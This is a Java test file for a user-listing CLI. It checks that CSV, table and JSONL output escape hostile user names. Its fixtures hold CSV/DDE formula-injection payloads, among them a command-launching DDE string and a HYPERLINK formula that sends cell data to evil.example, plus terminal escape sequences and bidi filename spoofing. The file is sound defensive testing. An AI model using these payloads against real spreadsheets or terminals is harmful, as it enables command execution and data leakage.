package dev.saasusers.cli;

import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.github.tomakehurst.wiremock.stubbing.StubMapping;
import java.io.IOException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Names that users wrote themselves, served by the fake Datagrid over loopback: csv must not let
 * a spreadsheet run them, csv and table must not let them drive the terminal, jsonl must keep
 * them exact.
 */
class HostileValuesTest extends FakeVendorsTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  /** One value per class of character that the issue names, keyed by what it is. */
  static final Map<String, String> HOSTILE = new LinkedHashMap<>();

  static {
    HOSTILE.put("dde", "=cmd|' /C calc'!A0");
    HOSTILE.put("plus", "+SUM(1,1)");
    HOSTILE.put("hyperlink", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
    HOSTILE.put("minus", "-2+3+cmd|' /C calc'!A0");
    HOSTILE.put("at", "@SUM(1,1)");
    HOSTILE.put("tab", "\t=1+1");
    HOSTILE.put("cr", "\r=1+1");
    HOSTILE.put("nul", "nul\u0000byte");
    HOSTILE.put("bel", "bell\u0007");
    HOSTILE.put("clear", "\u001b[2Jcleared");
    HOSTILE.put("color", "\u001b[31mred\u001b[0m");
    HOSTILE.put("osc", "\u001b]0;owned title\u0007");
    HOSTILE.put("c1", "csi\u009b31m");
    HOSTILE.put("del", "del\u007f");
    HOSTILE.put("bidi", "txt.\u202Eexe.pdf");
    HOSTILE.put("isolate", "\u2067rtl\u2069");
    HOSTILE.put("quote-break", "two\nlines, \"quoted\"");
  }

  private StubMapping stub;

  /** Datagrid serves one user per hostile value, in its first and last name (role is an enum). */
  @BeforeEach
  void serveHostileUsers() {
    ObjectNode body = JSON.createObjectNode().put("object", "list").put("has_more", false);
    ArrayNode data = body.putArray("data");
    HOSTILE.forEach((kind, value) -> {
      ObjectNode user = data.addObject().put("id", "usr_" + kind).put("email", kind + "@example.com")
          .put("first_name", value).put("last_name", value);
      user.putObject("permissions").put("role", value);
    });
    stub = fakes.datagrid.server().stubFor(get(urlPathEqualTo("/organization/users"))
        .willReturn(okJson(body.toString())));
  }

  @AfterEach
  void removeStub() {
    fakes.datagrid.server().removeStub(stub);
  }

  private static CliRun list(String... more) {
    List<String> args = new ArrayList<>(List.of("list", "datagrid"));
    args.addAll(List.of(more));
    return CliRun.of(fakes.env(Vendor.DATAGRID), args.toArray(String[]::new));
  }

  /** C0 (but CR and LF), DEL, C1, bidi controls and line/paragraph separators. */
  private static void assertNoUnsafeCharacter(String text, boolean allowLineBreaks) {
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      boolean lineBreak = c == '\n' || c == '\r';
      boolean unsafe = (c < 0x20 && !(allowLineBreaks && lineBreak)) || (c >= 0x7f && c <= 0x9f)
          || TerminalText.isBidiControl(c) || c == '\u2028' || c == '\u2029';
      assertFalse(unsafe, String.format("U+%04X at %d in: %s", (int) c, i,
          TerminalText.visible(text)));
    }
  }

  private static List<List<String>> csvRows(String text) throws IOException {
    CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
    List<List<String>> rows = new ArrayList<>();
    try (MappingIterator<List<String>> it = mapper.readerForListOf(String.class).readValues(text)) {
      it.forEachRemaining(rows::add);
    }
    return rows;
  }

  @Test
  void csvCellsNeverStartWithAFormulaCharacter() throws IOException {
    CliRun run = list("--format", "csv", "--columns", "id,first_name,last_name,roles,permissions.role");

    assertEquals(0, run.exitCode(), run::toString);
    List<List<String>> rows = csvRows(run.out());
    assertEquals(HOSTILE.size() + 1, rows.size(), run::toString);
    for (List<String> row : rows.subList(1, rows.size())) {
      for (String cell : row) {
        assertFalse(CsvCells.startsLikeFormula(cell), "formula cell: " + TerminalText.visible(cell));
      }
    }
    Map<String, String> firstNames = new LinkedHashMap<>();
    rows.subList(1, rows.size()).forEach(r -> firstNames.put(r.get(0), r.get(1)));
    assertEquals("'=cmd|' /C calc'!A0", firstNames.get("usr_dde"));
    assertEquals("'+SUM(1,1)", firstNames.get("usr_plus"));
    assertEquals("'-2+3+cmd|' /C calc'!A0", firstNames.get("usr_minus"));
    assertEquals("'@SUM(1,1)", firstNames.get("usr_at"));
    assertEquals("'\r=1+1", firstNames.get("usr_cr"), "CR is kept (quoted) and guarded");
    assertEquals("\\t=1+1", firstNames.get("usr_tab"), "a tab is made visible, so no formula");
    assertEquals("two\nlines, \"quoted\"", firstNames.get("usr_quote-break"));
  }

  @Test
  void csvCarriesNoControlOrBidiCharacterOutsideQuotedLineBreaks() throws IOException {
    CliRun run = list("--format", "csv", "--columns", "id,first_name,roles");

    assertEquals(0, run.exitCode(), run::toString);
    assertNoUnsafeCharacter(run.out(), true);
    for (List<String> row : csvRows(run.out())) {
      row.forEach(cell -> assertNoUnsafeCharacter(cell.replace("\r", "").replace("\n", ""), false));
    }
    assertTrue(run.out().contains("\\x1b[2Jcleared"), run.out());
    assertTrue(run.out().contains("txt.\\u202eexe.pdf"), run.out());
    assertTrue(run.out().contains("csi\\x9b31m"), run.out());
  }

  @Test
  void noFormulaGuardLeavesFormulasForMachinesButStillEscapesControls() throws IOException {
    CliRun run = list("--format", "csv", "--no-formula-guard", "--columns", "id,first_name");

    assertEquals(0, run.exitCode(), run::toString);
    Map<String, String> firstNames = new LinkedHashMap<>();
    csvRows(run.out()).forEach(r -> firstNames.put(r.get(0), r.get(1)));
    assertEquals("=cmd|' /C calc'!A0", firstNames.get("usr_dde"));
    assertEquals("+SUM(1,1)", firstNames.get("usr_plus"));
    assertNoUnsafeCharacter(run.out(), true);
  }

  @Test
  void tableShowsEscapesAndNeverSendsControlsToTheTerminal() {
    CliRun run = list("--columns", "id,first_name,roles");

    assertEquals(0, run.exitCode(), run::toString);
    assertNoUnsafeCharacter(run.out().replace(System.lineSeparator(), ""), false);
    assertEquals(HOSTILE.size() + 1, run.outLines().size(), "one line per user: " + run.out());
    assertTrue(run.out().contains("\\x1b[2Jcleared"), run.out());
    assertTrue(run.out().contains("\\x1b]0;owned"), run.out());
    assertTrue(run.out().contains("txt.\\u202eexe.pdf"), run.out());
    assertTrue(run.out().contains("two\\nlines"), run.out());
  }

  @Test
  void jsonlKeepsEveryValueExactAndEscaped() throws IOException {
    CliRun run = list("--format", "jsonl");

    assertEquals(0, run.exitCode(), run::toString);
    assertNoUnsafeCharacter(run.out().replace("\n", ""), false);
    List<String> lines = run.outLines();
    assertEquals(HOSTILE.size(), lines.size());
    int i = 0;
    for (String value : HOSTILE.values()) {
      JsonNode user = JSON.readTree(lines.get(i++));
      assertEquals(value, user.get("first_name").asText());
      assertEquals(value, user.get("last_name").asText());
    }
    assertTrue(run.out().contains("\\u202E") || run.out().contains("\\u202e"), run.out());
  }
}
